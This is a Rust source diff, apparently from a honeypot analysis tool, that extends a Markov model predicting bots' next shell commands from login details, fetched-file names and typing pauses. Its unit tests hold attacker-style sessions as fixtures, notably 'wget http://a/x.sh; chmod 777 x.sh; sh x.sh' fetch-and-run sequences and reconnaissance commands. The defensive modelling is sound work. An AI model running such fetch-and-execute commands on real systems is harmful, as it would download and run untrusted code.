@@ -7,26 +7,49 @@
 //! program chain knows a longer context than the command chain (an unseen variant of a known
 //! pattern), it mixes in the program chain's guess, spelled as that program's most frequent
 //! command. Counting is deterministic (ties break by token) and [`Markov::observe`] updates
-//! online. The model (de)serializes as JSON with a format version and the hashes of its
-//! training sequences, which decide whether an evaluated session is "novel".
+//! online.
+//!
+//! The context is a [`SessionContext`], which carries more than the command tokens:
+//! - files the session fetched are referred to by recency (`chmod 777 <F1>` is "chmod the
+//!   file fetched last", `<F2>` the one before), so a new campaign's
+//!   `wget …/x.sh; chmod 777 x.sh` follows the known pattern; a guessed `<F1>` is spelled out
+//!   with the session's own name, so it is judged against the command as typed;
+//! - the login (SSH client, user and password), known before the first command, stands before
+//!   the start symbol, so the same bot logging in the same way is recognised from its first
+//!   command on; an unseen login backs off to the plain start;
+//! - a cache of the session's own commands, mixed in with [`Markov::cache_weight`] once the
+//!   session pauses like a person (people re-type `ls -a` and `./run`; scripts don't pause).
+//!
+//! The model (de)serializes as JSON with a format version and the hashes of its training
+//! sequences, which decide whether an evaluated session is "novel".
 
+use std::borrow::Cow;
 use std::collections::{BTreeMap, BTreeSet, HashMap};
 
 use serde::{Deserialize, Serialize};
 
+use super::context::WINDOW;
+pub use super::context::{Login, SessionContext};
 use super::normalize::Normalized;
 
-/// The model file format this code reads and writes.
-pub const FORMAT_VERSION: u32 = 1;
+/// The model file format this code reads and writes (2: tokens with fetched-file
+/// placeholders and login context).
+pub const FORMAT_VERSION: u32 = 2;
 
-/// The context token before a session's first command.
-const START: &str = "<S>";
 /// Separator of tokens inside a context key (never typed by the normalizer's output paths).
 const SEP: char = '\u{1f}';
 /// Default [`Markov::backoff`].
 const BACKOFF: f64 = 0.05;
 /// Default [`Markov::program_weight`].
 const PROGRAM_WEIGHT: f64 = 0.6;
+/// Default [`Markov::escape`].
+const ESCAPE: f64 = 0.0;
+/// Default [`Markov::cache_weight`].
+const CACHE_WEIGHT: f64 = 0.5;
+/// Default [`Markov::lost_below`].
+const LOST_BELOW: f64 = 0.1;
+/// Default [`Markov::human_gap`].
+const HUMAN_GAP: f64 = 2.0;
 
 /// Why a model file cannot be read.
 #[derive(Debug, thiserror::Error)]
@@ -78,6 +101,20 @@ pub struct Markov {
     /// Weight of the program chain when it knows a longer context than the command chain.
     #[serde(default = "default_program_weight")]
     pub program_weight: f64,
+    /// Witten-Bell escape factor: when above 0, contexts are interpolated, each longer one
+    /// weighted by `seen / (seen + escape · distinct)`; at 0, the fixed [`Markov::backoff`].
+    #[serde(default = "default_escape")]
+    pub escape: f64,
+    /// Weight of the session's own earlier commands once it pauses like a person.
+    #[serde(default = "default_cache_weight")]
+    pub cache_weight: f64,
+    /// The cache is also mixed in when no model guess is this likely (the model is lost:
+    /// the session left every pattern it knows).
+    #[serde(default = "default_lost_below")]
+    pub lost_below: f64,
+    /// The pause, in seconds, that makes a session type like a person.
+    #[serde(default = "default_human_gap")]
+    pub human_gap: f64,
 }
 
 fn default_backoff() -> f64 {
@@ -88,12 +125,28 @@ fn default_program_weight() -> f64 {
     PROGRAM_WEIGHT
 }
 
+fn default_escape() -> f64 {
+    ESCAPE
+}
+
+fn default_cache_weight() -> f64 {
+    CACHE_WEIGHT
+}
+
+fn default_lost_below() -> f64 {
+    LOST_BELOW
+}
+
+fn default_human_gap() -> f64 {
+    HUMAN_GAP
+}
+
 impl Markov {
-    /// An empty model with contexts up to `order` commands (at least 1).
+    /// An empty model with contexts up to `order` commands (1 to [`WINDOW`] − 1).
     pub fn new(order: usize) -> Markov {
         Markov {
             version: FORMAT_VERSION,
-            order: order.max(1),
+            order: order.clamp(1, WINDOW - 1),
             tokens: Counts::new(),
             programs: Counts::new(),
             by_program: Counts::new(),
@@ -101,6 +154,10 @@ impl Markov {
             training: BTreeSet::new(),
             backoff: BACKOFF,
             program_weight: PROGRAM_WEIGHT,
+            escape: ESCAPE,
+            cache_weight: CACHE_WEIGHT,
+            lost_below: LOST_BELOW,
+            human_gap: HUMAN_GAP,
         }
     }
 
@@ -115,23 +172,49 @@ impl Markov {
 
     /// Counts every transition of one session and remembers its sequence hash.
     pub fn train(&mut self, session: &[Normalized]) {
-        for i in 0..session.len() {
-            self.observe(&session[..i], &session[i]);
+        self.train_in(&Login::default(), session);
+    }
+
+    /// Counts every transition of one session that logged in with `login`.
+    pub fn train_in(&mut self, login: &Login, session: &[Normalized]) {
+        self.train_weighted(login, session, 1);
+    }
+
+    /// Counts every transition of one session `weight` times (recent sessions can count
+    /// more than old ones: campaigns change their scripts over time).
+    pub fn train_weighted(&mut self, login: &Login, session: &[Normalized], weight: u32) {
+        let weight = weight.max(1);
+        let mut context = SessionContext::new(login);
+        for command in session {
+            self.count(&context, command, weight);
+            context.push(command, None);
         }
         self.training.insert(sequence_hash(session));
     }
 
     /// Counts one transition: `next` came after `context` (the session's commands so far).
     pub fn observe(&mut self, context: &[Normalized], next: &Normalized) {
-        let tokens = with_start(context, |n| n.token.as_str());
-        let programs = with_start(context, |n| n.program.as_str());
-        for n in 0..=self.order.min(tokens.len()) {
-            bump(&mut self.tokens, key(&tokens, n), &next.token);
-            bump(&mut self.programs, key(&programs, n), &next.program);
+        self.count(&SessionContext::from_commands(context), next, 1);
+    }
+
+    /// Counts one transition: `next` came after `context`.
+    pub fn observe_in(&mut self, context: &SessionContext, next: &Normalized) {
+        self.count(context, next, 1);
+    }
+
+    fn count(&mut self, context: &SessionContext, next: &Normalized, weight: u32) {
+        let token = context.target(next);
+        let (tokens, reach) = context.items(false, self.order);
+        for n in 0..=reach {
+            bump(&mut self.tokens, key(&tokens, n), &token, weight);
         }
-        bump(&mut self.by_program, next.program.clone(), &next.token);
+        let (programs, reach) = context.items(true, self.order);
+        for n in 0..=reach {
+            bump(&mut self.programs, key(&programs, n), &next.program, weight);
+        }
+        bump(&mut self.by_program, next.program.clone(), &token, weight);
         self.program_of
-            .entry(next.token.clone())
+            .entry(token)
             .or_insert_with(|| next.program.clone());
     }
 
@@ -140,22 +223,102 @@ impl Markov {
         self.training.contains(&sequence_hash(session))
     }
 
-    /// The `k` most likely next commands after `context`, most likely first.
+    /// The `k` most likely next commands after `context` (a session with no login
+    /// information and no times), most likely first.
     pub fn predict(&self, context: &[Normalized], k: usize) -> Vec<Prediction> {
-        let tokens = with_start(context, |n| n.token.as_str());
-        let programs = with_start(context, |n| n.program.as_str());
-        let mut scores: BTreeMap<&str, f64> = BTreeMap::new();
-        let mut weight = 1.0;
-        let mut token_order = None;
-        for n in (0..=self.order.min(tokens.len())).rev() {
-            let Some(dist) = self.tokens.get(&key(&tokens, n)) else {
+        self.predict_in(&SessionContext::from_commands(context), k)
+    }
+
+    /// The `k` most likely next commands in this session, most likely first, their
+    /// probabilities summing to at most 1. Fetched-file placeholders are spelled out with the
+    /// session's names; a guess naming a file the session has not fetched is dropped.
+    pub fn predict_in(&self, context: &SessionContext, k: usize) -> Vec<Prediction> {
+        // Guess as typed → (probability, program).
+        let mut guesses: BTreeMap<Cow<'_, str>, (f64, &str)> = BTreeMap::new();
+        for (token, score) in self.scores(context) {
+            let Some(surface) = context.spell(token) else {
                 continue;
             };
-            token_order.get_or_insert(n);
-            add(&mut scores, dist, weight);
-            weight *= self.backoff;
+            let program = self.program_of.get(token).map_or("", String::as_str);
+            guesses.entry(surface).or_insert((0.0, program)).0 += score;
         }
-        let program_order = (0..=self.order.min(programs.len()))
+        let total: f64 = guesses.values().map(|g| g.0).sum();
+        if total > 0.0 {
+            for guess in guesses.values_mut() {
+                guess.0 /= total;
+            }
+        }
+        let lost = !guesses.is_empty() && guesses.values().all(|g| g.0 < self.lost_below);
+        if self.cache_weight > 0.0 && (lost || context.human_like(self.human_gap)) {
+            let cached = context.cache();
+            if !cached.is_empty() {
+                let model_share = if guesses.is_empty() {
+                    0.0
+                } else {
+                    1.0 - self.cache_weight
+                };
+                for guess in guesses.values_mut() {
+                    guess.0 *= model_share;
+                }
+                for (token, (p, program)) in cached {
+                    guesses
+                        .entry(Cow::Borrowed(token))
+                        .or_insert((0.0, program))
+                        .0 += (1.0 - model_share) * p;
+                }
+            }
+        }
+        let mut ranked: Vec<(Cow<'_, str>, (f64, &str))> = guesses.into_iter().collect();
+        ranked.sort_by(|a, b| b.1.0.total_cmp(&a.1.0).then_with(|| a.0.cmp(&b.0)));
+        ranked
+            .into_iter()
+            .take(k)
+            .map(|(token, (probability, program))| Prediction {
+                token: token.into_owned(),
+                program: program.to_owned(),
+                probability,
+            })
+            .collect()
+    }
+
+    /// Unnormalised scores of the model-form next tokens.
+    fn scores(&self, context: &SessionContext) -> BTreeMap<&str, f64> {
+        let (tokens, reach) = context.items(false, self.order);
+        let mut scores: BTreeMap<&str, f64> = BTreeMap::new();
+        let mut token_order = None;
+        if self.escape > 0.0 {
+            // Witten-Bell: each longer context that was seen takes over in proportion to how
+            // often it was seen against how many different commands followed it.
+            for n in 0..=reach {
+                let Some(dist) = self.tokens.get(&key(&tokens, n)) else {
+                    continue;
+                };
+                token_order = Some(n);
+                let seen = f64::from(dist.values().sum::<u32>());
+                let distinct = dist.len() as f64;
+                let keep = if scores.is_empty() {
+                    0.0
+                } else {
+                    self.escape * distinct / (seen + self.escape * distinct)
+                };
+                for value in scores.values_mut() {
+                    *value *= keep;
+                }
+                add(&mut scores, dist, 1.0 - keep);
+            }
+        } else {
+            let mut weight = 1.0;
+            for n in (0..=reach).rev() {
+                let Some(dist) = self.tokens.get(&key(&tokens, n)) else {
+                    continue;
+                };
+                token_order.get_or_insert(n);
+                add(&mut scores, dist, weight);
+                weight *= self.backoff;
+            }
+        }
+        let (programs, reach) = context.items(true, self.order);
+        let program_order = (0..=reach)
             .rev()
             .find_map(|n| self.programs.get(&key(&programs, n)).map(|d| (n, d)));
         if let Some((n, dist)) = program_order
@@ -173,18 +336,7 @@ impl Markov {
                 }
             }
         }
-        let total: f64 = scores.values().sum();
-        let mut ranked: Vec<(&str, f64)> = scores.into_iter().collect();
-        ranked.sort_by(|a, b| b.1.total_cmp(&a.1).then_with(|| a.0.cmp(b.0)));
-        ranked
-            .into_iter()
-            .take(k)
-            .map(|(token, score)| Prediction {
-                token: token.to_owned(),
-                program: self.program_of.get(token).cloned().unwrap_or_default(),
-                probability: if total > 0.0 { score / total } else { 0.0 },
-            })
-            .collect()
+        scores
     }
 
     /// The model as JSON.
@@ -220,15 +372,6 @@ pub fn sequence_hash(session: &[Normalized]) -> u64 {
     hash
 }
 
-fn with_start<'a>(
-    context: &'a [Normalized],
-    part: impl Fn(&'a Normalized) -> &'a str,
-) -> Vec<&'a str> {
-    std::iter::once(START)
-        .chain(context.iter().map(part))
-        .collect()
-}
-
 /// The key of the last `n` items of `items`.
 fn key(items: &[&str], n: usize) -> String {
     let mut out = String::new();
@@ -241,12 +384,12 @@ fn key(items: &[&str], n: usize) -> String {
     out
 }
 
-fn bump(counts: &mut Counts, context: String, next: &str) {
+fn bump(counts: &mut Counts, context: String, next: &str, weight: u32) {
     let entry = counts.entry(context).or_default();
     if let Some(count) = entry.get_mut(next) {
-        *count = count.saturating_add(1);
+        *count = count.saturating_add(weight);
     } else {
-        entry.insert(next.to_owned(), 1);
+        entry.insert(next.to_owned(), weight);
     }
 }
 
@@ -339,12 +482,95 @@ mod tests {
         let back = Markov::from_json(&json).expect("round trip");
         assert_eq!(back.predict(&a[..1], 2), model.predict(&a[..1], 2));
         assert!(back.seen(&a));
-        let wrong = json.replacen("\"version\":1", "\"version\":99", 1);
+        let wrong = json.replacen("\"version\":2", "\"version\":99", 1);
         assert!(matches!(
             Markov::from_json(&wrong),
             Err(ModelError::Version { found: 99 })
         ));
         assert!(Markov::from_json("{").is_err());
+    }
+
+    #[test]
+    fn a_fetched_file_is_predicted_by_its_own_name() {
+        // Two campaigns with other file names teach "chmod, then run, the file just fetched";
+        // a third name is predicted spelled out, as typed.
+        let a = session(&["cd /tmp", "wget http://a/x.sh", "chmod 777 x.sh", "sh x.sh"]);
+        let b = session(&["cd /tmp", "wget http://b/y.sh", "chmod 777 y.sh", "sh y.sh"]);
+        let model = Markov::trained(4, [a.as_slice(), b.as_slice()]);
+        let c = session(&["cd /tmp", "wget http://c/new.sh"]);
+        let guess = model.predict(&c, 3);
+        assert_eq!(guess[0].token, "chmod <NUM> new.sh", "{guess:?}");
+        assert_eq!(guess[0].program, "chmod");
+        assert!(guess[0].probability > 0.9, "{guess:?}");
+        let ran = session(&["cd /tmp", "wget http://c/new.sh", "chmod 777 new.sh"]);
+        assert_eq!(top(&model, &ran), "sh new.sh");
+        // Without a fetched file a placeholder cannot be spelled out: no such guess.
+        assert!(
+            model
+                .predict(&session(&["cd /tmp", "chmod 777 q"]), 5)
+                .iter()
+                .all(|p| !p.token.contains("<F")),
+        );
+    }
+
+    #[test]
+    fn the_login_tells_which_bot_starts() {
+        let login = |user: &str| Login {
+            client: Some("SSH-2.0-Go".into()),
+            username: Some(user.into()),
+            password: Some("1234".into()),
+        };
+        let mut model = Markov::new(3);
+        for _ in 0..3 {
+            model.train_in(&login("admin"), &session(&["cat /proc/cpuinfo", "w"]));
+        }
+        model.train_in(&login("pi"), &session(&["uname -a", "w"]));
+        let start = |user: &str| {
+            model.predict_in(&SessionContext::new(&login(user)), 1)[0]
+                .token
+                .clone()
+        };
+        assert_eq!(start("admin"), "cat /proc/cpuinfo");
+        assert_eq!(start("pi"), "uname -a");
+        // An unseen login backs off to what sessions start with overall.
+        assert_eq!(start("oracle"), "cat /proc/cpuinfo");
+    }
+
+    #[test]
+    fn a_session_that_pauses_like_a_person_is_expected_to_retype() {
+        // After a `cd` the model knows three equally likely commands; a person who ran
+        // `ls -a` after their last `cd` is expected to do it again, a script is not.
+        let bots: Vec<Vec<Normalized>> = [["cd /x", "uname"], ["cd /y", "w"], ["cd /z", "id"]]
+            .iter()
+            .map(|lines| session(lines))
+            .collect();
+        let model = Markov::trained(2, bots.iter().map(Vec::as_slice));
+        let typed = session(&["cd /home", "ls -a", "cd /var"]);
+        let mut person = SessionContext::new(&Login::default());
+        let mut script = SessionContext::new(&Login::default());
+        for (i, command) in typed.iter().enumerate() {
+            person.push(command, Some(5.0 * i as f64));
+            script.push(command, Some(0.1 * i as f64));
+        }
+        assert_eq!(model.predict_in(&person, 1)[0].token, "ls -a");
+        assert_eq!(
+            model.predict_in(&script, 1)[0].token,
+            "id",
+            "ties go by token"
+        );
+        let p = model.predict_in(&person, 10);
+        let sum: f64 = p.iter().map(|p| p.probability).sum();
+        assert!((sum - 1.0).abs() < 1e-9, "{p:?}");
+    }
+
+    #[test]
+    fn witten_bell_escape_also_predicts_a_chain_exactly() {
+        let chain = session(&["uname -a", "w", "free -m", "w", "id"]);
+        let mut model = Markov::trained(3, [chain.as_slice(), chain.as_slice()]);
+        model.escape = 1.0;
+        for i in 0..chain.len() {
+            assert_eq!(top(&model, &chain[..i]), chain[i].token, "step {i}");
+        }
     }
 
     #[test]
